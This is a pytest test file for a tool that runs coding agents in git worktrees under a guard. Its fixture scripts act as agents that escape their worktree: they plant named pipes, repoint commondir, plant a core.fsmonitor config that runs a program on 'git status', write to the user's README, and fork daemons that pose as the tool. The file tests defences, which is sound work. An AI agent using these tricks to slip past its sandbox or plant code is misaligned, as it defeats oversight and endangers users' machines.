    # Your linked worktree's admin dir: git appends to its logs/HEAD in place (a second name
    # there is written through) but writes its HEAD aside and renames it over.
    git(repo, "worktree", "add", "-q", str(tmp_path / "feature"), "-b", "feature")
    admin = repo / ".git" / "worktrees" / "feature"
    os.link(admin / "HEAD", tmp_path / "head-backup")
    os.link(admin / "logs" / "HEAD", tmp_path / "reflog-backup")
    found = surface.read(repo / ".git", (), {tmp_path / "feature": admin})
    assert found["worktrees/feature/logs/HEAD"].kind == surface_entry.HARD_LINK
    assert "worktrees/feature/HEAD" not in found


# What a git killed while it wrote an object leaves in a fan-out directory: its temporary
# file, which the next `git gc` (or `git prune`) removes once it is old.
COMMIT_THEN_GC = """
import pathlib, subprocess
pathlib.Path('work.txt').write_text('own work\\n')
subprocess.run(['git', 'add', 'work.txt'], check=True)
subprocess.run(['git', 'commit', '-qm', 'work'], check=True)
subprocess.run(['git', 'gc', '--quiet'], check=True)
"""


def test_a_gc_that_removes_a_crashed_gits_temporary_object_file_is_no_outside_write(
    repo: Path, write_agent: AgentFactory
) -> None:
    left = repo / ".git" / "objects" / "ab" / "tmp_obj_Xy12Ab"
    left.parent.mkdir()
    left.write_bytes(b"x\x9c half an object")
    weeks_ago = time.time() - 30 * 86400
    os.utime(left, (weeks_ago, weeks_ago))
    out = run_one(repo, write_agent(COMMIT_THEN_GC), sandbox=False, task="tidy")
    assert out.returncode == 0, out.stdout + out.stderr
    assert status_json(repo)["tidy"]["state"] == "done"
    assert outside_writes(repo) == []
    assert not left.exists()  # gc's to remove, not put back
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


# `git update-server-info` (which every repack runs, `gc --auto` after a commit included)
# writes info/refs as a temporary file beside it, renamed into place: caught half way, with
# many refs to list, and held there while the guard scans.
SERVER_INFO_HALF_WAY = """
import os, pathlib, signal, subprocess, time
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
info = common / 'info'
while True:
    git = subprocess.Popen(['git', 'update-server-info'])
    while git.poll() is None and not any(n.startswith('refs_') for n in os.listdir(info)):
        pass
    if git.poll() is None:
        break
git.send_signal(signal.SIGSTOP)  # what a busy machine does to git for a while
time.sleep(2.5)  # several guard scans see it
git.send_signal(signal.SIGCONT)
assert git.wait() == 0
pathlib.Path('work.txt').write_text('own work\\n')
"""


@pytest.mark.long
def test_gits_temporary_ref_list_for_dumb_http_is_no_outside_write(
    repo: Path, write_agent: AgentFactory
) -> None:
    tip = git(repo, "rev-parse", "HEAD")
    tags = "".join(f"{tip} refs/tags/v{n}\n" for n in range(20_000))
    (repo / ".git" / "packed-refs").write_text(f"# pack-refs with: peeled sorted\n{tags}")
    out = run_one(repo, write_agent(SERVER_INFO_HALF_WAY), sandbox=False, task="pack")
    assert out.returncode == 0, out.stdout + out.stderr
    assert status_json(repo)["pack"]["state"] == "done"
    assert outside_writes(repo) == []
    assert f"{tip}\trefs/tags/v19999\n" in (repo / ".git" / "info" / "refs").read_text()
    assert not list((repo / ".git" / "info").glob("refs_*"))


# A copy of the git dir made with `cp -al` (every file hard-linked, a cheap backup) while a
# run goes on: the links are yours, not planted, and undoing them loses nothing of either copy.
def test_a_copy_of_the_git_dir_made_with_cp_al_during_a_run_loses_nothing(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    git(repo, "commit", "-q", "--allow-empty", "-m", "second")
    before = repo_state(repo)
    log = git(repo, "reflog", "main")
    flag, backup = tmp_path / "flag", tmp_path / "backup.git"
    path = manifest(
        repo,
        '[[task]]\nid = "slow"\nprompt = "p"\n'
        f"agent = {argv_toml([*write_agent(WAIT_FOR_FLAG), str(flag)])}\n",
    )
    running = swarm_bg(repo, "run", path)
    try:
        wait_for(
            (repo.parent / "repo.swarm" / "slow" / "slow.txt").exists,
            what="the slow agent to run",
        )
        subprocess.run(["cp", "-al", str(repo / ".git"), str(backup)], check=True)
        flag.write_text("go\n")
        running.wait(timeout=60)
    finally:
        if running.poll() is None:
            running.kill()
    # Your HEAD, index, branches and reflogs are all still there, in both copies.
    assert repo_state(repo) == before
    assert git(repo, "reflog", "main") == log
    assert git(repo, "status", "--porcelain") == ""
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert git(repo, "show", "swarm/slow:slow.txt") == "slow"  # the task's work committed
    assert git(tmp_path, "--git-dir", str(backup), "reflog", "main") == log


def test_swarm_merge_into_a_branch_of_a_git_dir_copied_with_cp_al_keeps_its_tip_and_reflog(
    repo: Path, tmp_path: Path, write_agent: AgentFactory
) -> None:
    git(repo, "branch", "release")
    git(repo, "pack-refs", "--all")
    git(repo, "commit", "-q", "--allow-empty", "-m", "second")
    git(repo, "branch", "-f", "release")  # its loose ref is ahead of the packed one
    agent = write_agent("import pathlib\npathlib.Path('a.txt').write_text('a\\n')\n")
    first = manifest(repo, '[[task]]\nid = "a"\nprompt = "p"\n')
    assert swarm(repo, "run", first, "--agent", " ".join(agent)).returncode == 0
    tip = git(repo, "rev-parse", "release")
    log = git(repo, "reflog", "--format=%H %gs", "release")
    backup = tmp_path / "backup.git"
    subprocess.run(["cp", "-al", str(repo / ".git"), str(backup)], check=True)
    out = swarm(repo, "merge", "--into", "release")
    assert out.returncode == 0, out.stdout + out.stderr
    assert git(repo, "show", "release:a.txt") == "a"
    git(repo, "merge-base", "--is-ancestor", tip, "release")  # merged onto its tip
    assert git(repo, "reflog", "--format=%H %gs", "release").endswith(f"\n{log}")  # goes on
    assert git(tmp_path, "--git-dir", str(backup), "rev-parse", "release") == tip  # untouched


@pytest.mark.long
def test_a_repository_with_more_tags_than_a_command_line_holds_is_scanned_in_full(
    repo: Path, write_agent: AgentFactory
) -> None:
    # 7,000 tags of as many commits, and a command line cut to 256 KiB (Linux gives arguments
    # a quarter of the stack, here 1 MiB): as some 50,000 tags are for the usual 2 MiB.
    commits = "".join(
        f"commit refs/tags/v{n}\ncommitter C <c@example.com> {1_700_000_000 + n} +0000\ndata 0\n"
        for n in range(7_000)
    )
    subprocess.run(
        ["git", "fast-import", "--quiet"], cwd=repo, input=commits, text=True, check=True
    )
    agent = write_agent("import pathlib\npathlib.Path('w.txt').write_text('w\\n')\n")
    path = manifest(repo, f'[[task]]\nid = "t"\nprompt = "p"\nagent = {argv_toml(agent)}\n')
    small_stack = ["sh", "-c", 'ulimit -s 1024 && exec "$@"', "sh"]
    out = subprocess.run(
        [*small_stack, sys.executable, "-m", "worktree_swarm.cli", "run", path],
        cwd=repo, capture_output=True, text=True, timeout=120, stdin=subprocess.DEVNULL,
        check=False,
    )  # fmt: skip
    assert out.returncode == 0, out.stdout + out.stderr
    assert "scan failed" not in out.stdout, out.stdout
    assert status_json(repo)["t"]["state"] == "done"


# The agent points its own branch at a commit it deletes: nothing can make that branch whole.
BREAK_OWN_BRANCH = """
import pathlib, subprocess
def git(*args):
    return subprocess.run(['git', *args], check=True, capture_output=True, text=True).stdout.strip()
pathlib.Path('work.txt').write_text('kept\\n')
git('add', 'work.txt')
git('commit', '-qm', 'work')
tree = git('write-tree')
doomed = git('commit-tree', tree, '-p', 'HEAD', '-m', 'doomed')
git('update-ref', 'HEAD', doomed)
common = pathlib.Path(git('rev-parse', '--path-format=absolute', '--git-common-dir'))
(common / 'objects' / doomed[:2] / doomed[2:]).unlink()
"""


def test_a_branch_that_cannot_be_made_whole_goes_back_to_its_last_complete_tip(
    repo: Path, write_agent: AgentFactory
) -> None:
    run_one(repo, write_agent(BREAK_OWN_BRANCH), sandbox=False)
    # No ref of yours names a missing object: git gc, git log --all and for-each-ref work
    # (they failed: fatal: bad object refs/heads/swarm/bad).
    for command in (["gc", "-q"], ["for-each-ref"], ["log", "--all", "--reflog"]):
        subprocess.run(["git", *command], cwd=repo, check=True, capture_output=True)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "no longer resolves to a complete commit" in str(row["reason"]), row
    (write,) = outside_writes(repo)
    assert write["broken"] == ["refs/heads/swarm/bad"]
    (back,) = write["set_back"]  # type: ignore[misc]
    assert back.startswith("swarm/bad at ")
    # Its branch went back to the agent's last commit, its work.
    assert git(repo, "show", "swarm/bad:work.txt") == "kept"
    assert git(repo, "log", "--format=%s", "-1", "swarm/bad") == "work"


def test_with_outside_writes_allowed_a_broken_branch_is_left_and_its_last_tip_kept(
    repo: Path, write_agent: AgentFactory
) -> None:
    agent = write_agent(BREAK_OWN_BRANCH)
    path = manifest(repo, f'[[task]]\nid = "bad"\nprompt = "p"\nagent = {argv_toml(agent)}\n')
    swarm(repo, "run", path, "--allow-outside-writes")
    (write,) = outside_writes(repo)
    assert write["set_back"] == []
    assert write["kept"] == ["swarm/keep/heads/swarm/bad"]
    kept = git(repo, "rev-parse", "refs/swarm/keep/heads/swarm/bad")
    assert git(repo, "show", f"{kept}:work.txt") == "kept"
    broken = subprocess.run(["git", "rev-parse", "swarm/bad^{tree}"], cwd=repo, check=False)
    assert broken.returncode != 0  # left as found


def test_a_backup_during_a_run_leaves_your_linked_worktree_registered(
    repo: Path, tmp_path: Path, write_agent: Callable[[str], list[str]]
) -> None:
    # A backup made with `cp -al` during a run also links the admin files of your own linked
    # worktree: its `gitdir` and `commondir`, which git reads but does not write. The guard
    # cut those by deleting them: the worktree was no longer a checkout (fatal: not a git
    # repository), and the next `git worktree prune` (any `git gc`) unregistered it.
    wt = tmp_path / "wt"
    git(repo, "worktree", "add", "-q", str(wt), "-b", "yours")
    gate, started = tmp_path / "gate", tmp_path / "started"
    agent = write_agent(
        "import pathlib, sys, time\n"
        f"pathlib.Path({str(started)!r}).touch()\n"
        f"while not pathlib.Path({str(gate)!r}).exists():\n    time.sleep(0.02)\n"
        "pathlib.Path('work.txt').write_text('work')\n"
    )
    proc = swarm_bg(repo, "run", "--agent", " ".join(agent), "-t", "t=x")
    try:
        wait_for(started.exists, what="the agent")
        subprocess.run(["cp", "-al", str(repo / ".git"), str(tmp_path / "backup")], check=True)
    finally:
        gate.touch()
    proc.wait(timeout=120)
    admin = repo / ".git" / "worktrees" / "wt"
    assert (admin / "gitdir").read_text().strip() == str(wt / ".git")
    assert (admin / "commondir").is_file()
    assert git(wt, "rev-parse", "--abbrev-ref", "HEAD") == "yours"
    assert "wt" in git(repo, "worktree", "list")


# -- named pipes: git and swarm never wait on one ------------------------------------------------

PIPE = """
import os, pathlib, subprocess, sys
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
pathlib.Path('work.txt').write_text('own work\\n')
target = {
    'gitignore': pathlib.Path('.gitignore'),
    'dotgit': pathlib.Path('.git'),
    'ref': common / 'refs' / 'heads' / 'evil',
    'object': common / 'objects' / 'e6' / '9de29bb2d1d6434b8b29ae775ad8c2e48c5391',  # empty blob
    'pack': common / 'objects' / 'pack' / 'pack-0',  # named below
}[sys.argv[1]]
try:
    if sys.argv[1] == 'pack':  # a true pack of HEAD's objects, with a pipe for its index
        made = subprocess.run(['git', 'pack-objects', '--revs', '-q', 'made'], input='HEAD\\n',
                              capture_output=True, text=True, check=True).stdout.strip()
        target = target.with_name(f'pack-{made}.idx')
        os.replace(f'made-{made}.pack', target.with_suffix('.pack'))
        os.unlink(f'made-{made}.idx')
    target.parent.mkdir(exist_ok=True)
    if target.is_file():
        target.unlink()
    os.mkfifo(target)
except OSError:
    pass  # the sandbox said no
"""


@pytest.mark.parametrize("sandbox", MODES_SANDBOX_SLOW)
@pytest.mark.parametrize(
    ("where", "what"),
    [
        pytest.param("ref", "refs/heads/evil", id="loose-ref"),
        pytest.param("object", "objects/e6/9de29bb2", id="loose-object"),
        pytest.param("pack", "objects/pack/pack-", id="pack-index"),
    ],
)
def test_a_named_pipe_planted_where_your_git_reads_is_removed(
    repo: Path, write_agent: AgentFactory, where: str, what: str, sandbox: bool
) -> None:
    """Opening a FIFO waits for a writer: every `git for-each-ref` of yours (a planted ref),
    every read of the empty blob (a planted object), every object looked for in the packs (a
    planted pack index) would hang for ever, and the guard's too."""
    before = repo_state(repo)
    run_one(repo, [*write_agent(PIPE), where], sandbox=sandbox)  # a hung run fails here
    caught_or_impossible(repo, sandbox=sandbox, what=what)
    for command in (["for-each-ref"], ["cat-file", "--batch-all-objects", "--batch-check"]):
        subprocess.run(["git", *command], cwd=repo, check=True, timeout=30, capture_output=True)
    assert repo_state(repo) == before


WORK = "import pathlib; pathlib.Path('work.txt').write_text('own work\\n')"


@pytest.mark.long
def test_a_named_pipe_in_an_agents_worktree_fails_its_task_and_the_run_goes_on(
    repo: Path, write_agent: AgentFactory
) -> None:
    """A FIFO `.gitignore` held every `git status` and `git add` there: the checkpoint, the
    guard's look, and the run waiting for them, for ever. The task fails naming it, its
    work stays in its worktree, and `swarm clean` keeps that worktree until the pipe is gone."""
    plant = write_agent(PIPE)
    path = manifest(
        repo,
        f'[[task]]\nid = "bad"\nprompt = "p"\nagent = {argv_toml([*plant, "gitignore"])}\n'
        f'[[task]]\nid = "good"\nprompt = "p"\nagent = {argv_toml(write_agent(WORK))}\n',
    )
    done = swarm(repo, "run", path)
    rows = status_json(repo)
    assert rows["good"]["state"] == "done", done.stdout + done.stderr
    bad = rows["bad"]
    pipe = Path(str(bad["worktree"])) / ".gitignore"
    assert bad["state"] == "failed", bad
    assert f"waited on the named pipe {pipe}" in str(bad["reason"]), bad
    cleaned = swarm(repo, "clean", "--yes")
    assert cleaned.returncode == 1, cleaned.stdout
    assert f"waited on the named pipe {pipe}" in cleaned.stdout
    assert pipe.parent.is_dir()
    assert not Path(str(rows["good"]["worktree"])).exists()
    pipe.unlink()
    assert swarm(repo, "clean", "--yes").returncode == 0
    assert branch_file(repo, "swarm/bad", "work.txt") == "own work"  # checkpointed, then removed


def test_a_worktree_whose_git_file_an_agent_made_a_named_pipe_fails_its_task(
    repo: Path, write_agent: AgentFactory
) -> None:
    """swarm reads a worktree's `.git` to find its admin dir: a FIFO there held the task."""
    run_one(repo, [*write_agent(PIPE), "dotgit"], sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "no longer names its registration" in str(row["reason"]), row


OWN_COMMONDIR = """
import pathlib, subprocess, sys
admin = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--absolute-git-dir'], capture_output=True, text=True, check=True
).stdout.strip())
pathlib.Path('work.txt').write_text('own work\\n')
(admin / 'commondir').write_text(sys.argv[1] + '\\n')
"""


@pytest.mark.parametrize("where", ["other", "shadow"])
def test_a_worktree_whose_commondir_an_agent_pointed_elsewhere_fails_its_task(
    repo: Path, write_agent: AgentFactory, tmp_path: Path, where: str
) -> None:
    """git in the worktree took that directory for the repository: pointed at another
    repository, the checkpoint made `swarm/bad` there with the task's work, and `swarm clean
    --force` committed later work there too, saying it was checkpointed, then deleted the
    task's own branch; pointed at a shadow of yours (your objects and refs, its own config),
    the task was done, and swarm's git read that config from then on."""
    other = tmp_path / "other"
    git(tmp_path, "init", "-q", str(other))
    git(other, "commit", "-q", "--allow-empty", "-m", "theirs")
    theirs = git(other, "for-each-ref")
    common = other / ".git"
    if where == "shadow":
        common = tmp_path / "shadow"
        common.mkdir()
        for name in ("objects", "refs", "logs", "info", "hooks"):
            (common / name).symlink_to(repo / ".git" / name)
        (common / "config").write_text((repo / ".git" / "config").read_text())
    run_one(repo, [*write_agent(OWN_COMMONDIR), str(common)], sandbox=False)
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "commondir no longer names" in str(row["reason"]), row
    worktree = Path(str(row["worktree"]))
    (worktree / "more.txt").write_text("later work\n")
    cleaned = swarm(repo, "clean", "--yes", "--force")
    assert "commondir no longer names" in cleaned.stdout, cleaned.stdout
    assert (worktree / "more.txt").is_file()  # kept for you, with its work
    assert git(repo, "branch", "--list", "swarm/bad") != ""
    assert git(other, "for-each-ref") == theirs


NEXT_LOG = """
import os, pathlib, subprocess
common = pathlib.Path(subprocess.run(
    ['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
    capture_output=True, text=True, check=True).stdout.strip())
logs = common / 'swarm' / 'runs' / os.environ['SWARM_RUN_ID'] / os.environ['SWARM_TASK_ID']
if not (logs / 'attempt-2.log').exists():
    os.mkfifo(logs / 'attempt-2.log')
pathlib.Path('work.txt').write_text('own work\\n')
"""


def test_a_named_pipe_planted_as_the_next_attempts_log_ends_the_task_not_the_run(
    repo: Path, write_agent: AgentFactory
) -> None:
    """The agent's output goes to a log it can reach: a FIFO there held the next attempt's
    start at the open, and the run with it."""
    path = manifest(
        repo,
        f'[[task]]\nid = "bad"\nprompt = "p"\nagent = {argv_toml(write_agent(NEXT_LOG))}\n'
        'checks = ["false"]\nrepair = 1\n',
    )
    swarm(repo, "run", path)  # held for ever before: fails on its timeout
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert "not a regular file" in str(row["reason"]), row


def test_the_guards_log_names_a_file_named_after_a_secret_redacted(
    repo: Path, write_agent: AgentFactory, monkeypatch: pytest.MonkeyPatch
) -> None:
    value = "DeployTok3nXYZ987"
    monkeypatch.setenv("MY_DEPLOY_TOKEN", value)
    agent = write_agent(
        "import os, pathlib, subprocess\n"
        "top = subprocess.run(['git', 'rev-parse', '--path-format=absolute',"
        " '--git-common-dir'], capture_output=True, text=True, check=True).stdout.strip()\n"
        "main = pathlib.Path(top).parent\n"
        "(main / ('o-' + os.environ['MY_DEPLOY_TOKEN'] + '.txt')).write_text('x')\n"
    )
    run_one(repo, agent, sandbox=False)
    assert "wrote outside its worktree" in str(status_json(repo)["bad"]["reason"])
    log = next((repo / ".git" / "swarm" / "runs").glob("*/guard/guard.log")).read_text()
    assert "o-[REDACTED" in log
    assert value not in log


# A task's check, run in its worktree once its agent ended: what it does there or elsewhere.
CHECK = """
import os, pathlib, shutil, subprocess, sys
what = sys.argv[1]
common = subprocess.run(['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
                        capture_output=True, text=True, check=True).stdout.strip()
if what == 'commit':
    pathlib.Path('extra.txt').write_text('the check\\n')
    subprocess.run(['git', 'add', 'extra.txt'], check=True)
    subprocess.run(['git', 'commit', '-qm', 'a check commits'], check=True)
elif what == 'reset':
    subprocess.run(['git', 'reset', '-q', '--hard', os.environ['SWARM_BASE']], check=True)
elif what == 'switch':
    subprocess.run(['git', 'checkout', '-q', '--detach'], check=True)
elif what == 'format':
    pathlib.Path('work.txt').write_text('formatted\\n')
    pathlib.Path('build').mkdir()
    pathlib.Path('build/out.o').write_text('built\\n')
elif what == 'commondir':  # a shadow of the repository: its objects and refs, its own config
    admin = subprocess.run(['git', 'rev-parse', '--absolute-git-dir'], capture_output=True,
                           text=True, check=True).stdout.strip()
    shadow = os.path.join(os.path.dirname(os.path.dirname(common)), 'shadow')
    os.mkdir(shadow)
    for name in ('objects', 'refs', 'logs', 'info', 'hooks'):
        os.symlink(os.path.join(common, name), os.path.join(shadow, name))
    shutil.copy(os.path.join(common, 'config'), os.path.join(shadow, 'config'))
    with open(os.path.join(admin, 'commondir'), 'w') as fh:
        fh.write(shadow + '\\n')
elif what == 'checkout':
    with open(os.path.join(os.path.dirname(common), 'README.md'), 'a') as fh:
        fh.write('a check was here\\n')
elif what == 'config':
    with open(os.path.join(common, 'config'), 'a') as fh:
        fh.write('[core]\\n\\tfsmonitor = touch planted\\n')
"""


def _run_with_check(
    repo: Path, write_agent: AgentFactory, what: str, *, more: str = ""
) -> dict[str, dict[str, object]]:
    """A run of task `a` (its agent writes work.txt), its check doing *what* (CHECK); the rows.

    *more*: what the manifest says after that check (`repair`, another task).
    """
    check = write_agent(CHECK)
    path = manifest(
        repo,
        f'[[task]]\nid = "a"\nprompt = "p"\nagent = {argv_toml(write_agent(WORK))}\n'
        f"checks = [{argv_toml([*check, what])}]\n{more}",
    )
    swarm(repo, "run", path)
    return status_json(repo)


@pytest.mark.parametrize("what", ["commit", "reset", "switch"])
def test_a_check_that_moves_its_tasks_branch_fails_the_task_and_is_put_back(
    repo: Path, write_agent: AgentFactory, what: str
) -> None:
    """A check that committed, reset the branch to its base or detached the worktree left
    the task done with a branch other than the one checked (or an empty one)."""
    row = _run_with_check(repo, write_agent, what)["a"]
    assert row["state"] == "failed", row
    assert str(row["reason"]).startswith("its checks "), row
    assert "put back" in str(row["reason"]), row
    worktree = Path(str(row["worktree"]))
    assert git(worktree, "symbolic-ref", "HEAD") == "refs/heads/swarm/a"
    assert git(repo, "show", "swarm/a:work.txt") == "own work"
    assert "extra.txt" not in git(repo, "ls-tree", "--name-only", "swarm/a")
    assert git(worktree, "status", "--porcelain") == ""


def test_a_check_that_points_its_worktree_elsewhere_fails_the_task_for_good(
    repo: Path, write_agent: AgentFactory
) -> None:
    """Checks run code the agent wrote: a check that pointed the worktree's `commondir` at a
    shadow of the repository left the task done, and swarm ran git there under its config."""
    row = _run_with_check(repo, write_agent, "commondir", more="repair = 1\n")["a"]
    assert row["state"] == "failed", row
    assert "its checks left its worktree no longer swarm's" in str(row["reason"]), row
    assert row["attempt"] == 1, row  # no repair round: the agent never runs there again


def test_what_a_check_writes_in_its_worktree_is_undone_so_the_branch_is_what_was_checked(
    repo: Path, write_agent: AgentFactory
) -> None:
    """A formatter's edits and build output stayed uncommitted in a done task's worktree:
    the branch was not what had been checked, and `swarm clean` committed them later."""
    row = _run_with_check(repo, write_agent, "format")["a"]
    assert row["state"] == "done", row
    worktree = Path(str(row["worktree"]))
    assert git(worktree, "status", "--porcelain", "--untracked-files=all") == ""
    assert (worktree / "work.txt").read_text() == "own work\n"
    tip = git(repo, "rev-parse", "swarm/a")
    assert swarm(repo, "clean", "--yes").returncode == 0
    assert git(repo, "rev-parse", "swarm/a") == tip  # nothing of the check's committed


def test_a_check_that_plants_git_config_fails_its_own_task_and_is_undone(
    repo: Path, write_agent: AgentFactory
) -> None:
    """Checks ran unwatched: a config a check planted was taken as the user's, the task
    was done, and the user's next `git status` ran the planted program. Its verdict comes
    before the task is done: its dependent never starts on it."""
    config = (repo / ".git" / "config").read_text()
    dependent = f'[[task]]\nid = "b"\nprompt = "p"\nagent = {argv_toml(write_agent(WORK))}\n'
    rows = _run_with_check(repo, write_agent, "config", more=dependent + 'depends_on = ["a"]\n')
    assert rows["a"]["state"] == "failed", rows["a"]
    assert "wrote outside its worktree" in str(rows["a"]["reason"]), rows["a"]
    assert rows["b"]["state"] == "blocked", rows["b"]
    assert (repo / ".git" / "config").read_text() == config


# Writes the config with `core.fsmonitor` planted over and over, for a few seconds: a put-back
# is undone at once.
REPLANT = """
import os, subprocess, time
common = subprocess.run(['git', 'rev-parse', '--path-format=absolute', '--git-common-dir'],
                        capture_output=True, text=True, check=True).stdout.strip()
config = os.path.join(common, 'config')
with open(config) as fh:
    text = fh.read() + '[core]\\n\\tfsmonitor = touch planted\\n'
end = time.monotonic() + 4
while time.monotonic() < end:
    with open(config + '.new', 'w') as fh:
        fh.write(text)
    os.replace(config + '.new', config)
"""


@pytest.mark.long
def test_git_config_an_agent_keeps_planting_is_put_back_once_it_stops(
    repo: Path, write_agent: AgentFactory
) -> None:
    """A put-back the agent undid at once was taken as found: the planted config stayed
    after the run and the user's next `git status` ran it, also while the agent (one suspect
    of two: not stopped) went on."""
    config = (repo / ".git" / "config").read_text()
    idle = write_agent("import time; time.sleep(5)\n" + WORK)
    path = manifest(
        repo,
        f'[[task]]\nid = "bad"\nprompt = "p"\nagent = {argv_toml(write_agent(REPLANT))}\n'
        f'[[task]]\nid = "idle"\nprompt = "p"\nagent = {argv_toml(idle)}\n',
    )
    swarm(repo, "run", path, "--jobs", "2")
    row = status_json(repo)["bad"]
    assert row["state"] == "failed", row
    assert (repo / ".git" / "config").read_text() == config


def test_a_checks_write_into_your_checkout_fails_its_task_before_its_dependent_starts(
    repo: Path, write_agent: AgentFactory
) -> None:
    """The verdict came with the guard's next scan, up to a second later: the task was done
    by then, and its dependent ran on it (and was blamed too)."""
    readme = (repo / "README.md").read_text()
    dependent = f'[[task]]\nid = "b"\nprompt = "p"\nagent = {argv_toml(write_agent(WORK))}\n'
    rows = _run_with_check(repo, write_agent, "checkout", more=dependent + 'depends_on = ["a"]\n')
    assert rows["a"]["state"] == "failed", rows["a"]
    assert "wrote outside its worktree" in str(rows["a"]["reason"]), rows["a"]
    assert rows["b"]["state"] == "blocked", rows["b"]
    assert (repo / "README.md").read_text() == readme


def test_a_task_that_writes_into_your_checkout_is_never_announced_done(
    repo: Path, write_agent: AgentFactory
) -> None:
    """The guard's verdict came with its next scan, up to a second after the task was
    announced `done`: the stream said `esc: done`, then `esc: failed`, and a script acting on
    the first had opened a pull request of the work it then failed."""
    readme = (repo / "README.md").read_text()
    escape = ["sh", "-c", f"echo pwned >> {repo / 'README.md'}; echo ok > own.txt"]
    path = manifest(
        repo,
        f'[[task]]\nid = "esc"\nprompt = "p"\nagent = {argv_toml(escape)}\n'
        f'[[task]]\nid = "good"\nprompt = "p"\nagent = {argv_toml(write_agent(WORK))}\n',
    )
    out = swarm(repo, "run", path, "--json")
    events = [json.loads(line) for line in out.stdout.splitlines()]
    said: dict[str, list[str]] = {}
    for event in events:
        if event["event"] == "state":
            said.setdefault(event["task_id"], []).append(event["state"])
    # Each task's first final state is its last word: none is announced, then taken back.
    for task_id, states in said.items():
        first = next(i for i, s in enumerate(states) if TaskState(s).is_final)
        assert states[first:] == [states[-1]], (task_id, states)
    assert said["esc"][-1] == "failed", said
    assert "done" not in said["esc"], said
    assert status_json(repo)["esc"]["state"] == "failed"
    assert (repo / "README.md").read_text() == readme


# -- a daemon of an agent's that speaks for swarm ---------------------------------------------

# Double-forks, with a session of its own between; the daemon announces a move of the ref
# argv[2] as swarm's own commands do (holding the file open, naming itself), makes it, and
# writes the guard's verdict (or "none") to argv[3] (the commit it moved it to beside it, as
# `.new`). The agent waits for that, then ends.
DAEMON_ANNOUNCES = r"""
import json, os, pathlib, subprocess, sys, time
import psutil
from worktree_swarm.infra import starts
repo, ref, out = pathlib.Path(sys.argv[1]), sys.argv[2], pathlib.Path(sys.argv[3])
pathlib.Path('work.txt').write_text('own work\n')
def git(*args):
    return subprocess.run(['git', '-C', str(repo), *args], check=True, capture_output=True,
                          text=True).stdout.strip()
old = git('rev-parse', ref)
new = git('commit-tree', git('rev-parse', ref + '^{tree}'), '-p', old, '-m', 'evil')
out.with_suffix('.new').write_text(new)
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        me = psutil.Process()
        where = repo / '.git' / 'swarm' / 'ref-moves'
        where.mkdir(parents=True, exist_ok=True)
        own = where / f'{me.pid}-daemon.json'
        verdict = own.with_name(own.name + '.verdict')
        with own.open('w') as held:
            held.write(json.dumps({'pid': me.pid, 'started': starts.of(me), 'done': True,
                                   'moves': [{'ref': ref, 'old': old, 'new': new}]}))
            held.flush()
            git('update-ref', ref, new, old)
            deadline = time.time() + 60
            while time.time() < deadline and not verdict.exists():
                time.sleep(0.05)
        # Whole or not there: the agent ends once it is, and the daemon may go with it.
        said = verdict.read_text().strip() if verdict.exists() else 'none'
        out.with_suffix('.tmp').write_text(said)
        os.replace(out.with_suffix('.tmp'), out)
    os._exit(0)
os.wait()
deadline = time.time() + 90
while time.time() < deadline and not out.exists():
    time.sleep(0.05)
"""


@pytest.mark.parametrize("target", ["refs/heads/stable", "refs/heads/swarm/victim"])
def test_a_daemon_an_agent_double_forks_does_not_speak_for_swarm(
    repo: Path, tmp_path: Path, write_agent: AgentFactory, target: str
) -> None:
    # Re-parented to the agent's shim (a child subreaper), not to init: still the agent's.
    git(repo, "branch", "stable")
    victim = write_agent("import pathlib\npathlib.Path('victim.txt').write_text('v\\n')\n")
    verdict = tmp_path / "verdict"
    bad = [*write_agent(DAEMON_ANNOUNCES), str(repo), target, str(verdict)]
    path = one_after_another(repo, [("victim", victim), ("bad", bad)])
    before = repo_state(repo)
    swarm(repo, "run", path)
    assert verdict.read_text() == "refused: written from task bad's agent"
    row = status_json(repo)["bad"]
    name = target.removeprefix("refs/heads/")
    assert row["state"] == "failed", row
    assert f"wrote outside its worktree: {name} moved; restored" in str(row["reason"]), row
    (write,) = outside_writes(repo)
    assert write["suspects"] == ["bad"]
    new = verdict.with_suffix(".new").read_text()
    assert write["refs"] == [
        {"ref": target, "before": git(repo, "rev-parse", target), "after": new}
    ]
    assert repo_state(repo) == before


# Started as this guard's child (as the shim server adopts what an agent that killed its own
# shim leaves), or detached from it (a double fork) with a task shim's mark; then as
# ANNOUNCE_AND_MOVE, its pid in `pid`.
DETACHED = r"""
import os, pathlib, sys
ctrl = pathlib.Path(sys.argv[3])  # ANNOUNCE_AND_MOVE's own: after its script and repo
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        (ctrl / 'pid.tmp').write_text(str(os.getpid()))
        os.replace(ctrl / 'pid.tmp', ctrl / 'pid')
        os.execv(sys.executable, [sys.executable, *sys.argv[1:]])
    os._exit(0)
os.wait()
"""


@pytest.mark.parametrize("where", ["below-the-guard", "marked"])
def test_an_announcement_from_a_task_program_swarm_lost_track_of_is_not_believed(
    tmp_path: Path, where: str
) -> None:
    repo = make_repo(tmp_path / "repo")
    git(repo, "branch", "stable")
    tree, tip = git(repo, "rev-parse", "main^{tree}"), git(repo, "rev-parse", "main")
    made = git(repo, "commit-tree", tree, "-p", tip, "-m", "evil")
    opened = open_repo(repo)
    guard = Guard(opened, work_dir=tmp_path / "g", restore=True)
    guard.start()
    ctrl = tmp_path / "ctrl"
    ctrl.mkdir()
    script = tmp_path / "announce.py"
    script.write_text(ANNOUNCE_AND_MOVE)
    args = [str(script), str(repo), str(ctrl), tip, made, made]
    env = {**os.environ, "SWARM_SHIM": str(opened.state_dir / "runs" / "r" / "t" / "record")}
    if where == "marked":
